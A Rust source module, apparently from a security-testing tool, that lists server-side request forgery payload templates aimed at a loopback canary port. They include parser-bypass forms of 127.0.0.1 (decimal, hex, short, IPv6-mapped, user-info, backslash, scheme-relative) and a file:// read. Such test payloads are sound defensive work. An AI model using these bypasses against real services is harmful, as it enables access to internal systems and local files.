//! Payloads for addresses that the function asks: the canary port on loopback, and nothing else.

use super::{Effect, Payload, PayloadClass};

const fn ssrf(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::Ssrf, id, template, Effect::Connects, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    ssrf("ssrf-url", "http://127.0.0.1:{P}/{C}", "the function asks whatever URL it is given"),
    ssrf(
        "ssrf-user-info",
        "@127.0.0.1:{P}/{C}",
        "behind a host name without a slash, that name is user info",
    ),
    ssrf("ssrf-host", "127.0.0.1:{P}/{C}?", "in the place of a host: what follows becomes a query"),
    ssrf("ssrf-scheme-relative", "//127.0.0.1:{P}/{C}", "relative to a base, two slashes begin a host"),
    ssrf(
        "ssrf-backslash",
        "/\\127.0.0.1:{P}/{C}",
        "a path by its first letters, a host to WHATWG URL parsers",
    ),
    ssrf("ssrf-decimal", "http://2130706433:{P}/{C}", "127.0.0.1 as one number"),
    ssrf("ssrf-hexadecimal", "http://0x7f000001:{P}/{C}", "127.0.0.1 as one hexadecimal number"),
    ssrf("ssrf-short", "http://127.1:{P}/{C}", "127.0.0.1 in its short form"),
    ssrf("ssrf-zero", "http://0.0.0.0:{P}/{C}", "the unspecified address is this machine on Linux"),
    ssrf("ssrf-mapped", "http://[::ffff:127.0.0.1]:{P}/{C}", "127.0.0.1 as an IPv6 address"),
    ssrf(
        "ssrf-name",
        "http://{C}.localhost:{P}/{C}",
        "the nonce is in the host name, so asking for its address is enough (RFC 6761: loopback)",
    ),
    Payload::new(
        PayloadClass::Ssrf,
        "ssrf-file",
        "file://{F}/{C}",
        Effect::Opens("{F}/{C}"),
        "clients that know more than http read files",
    ),
];
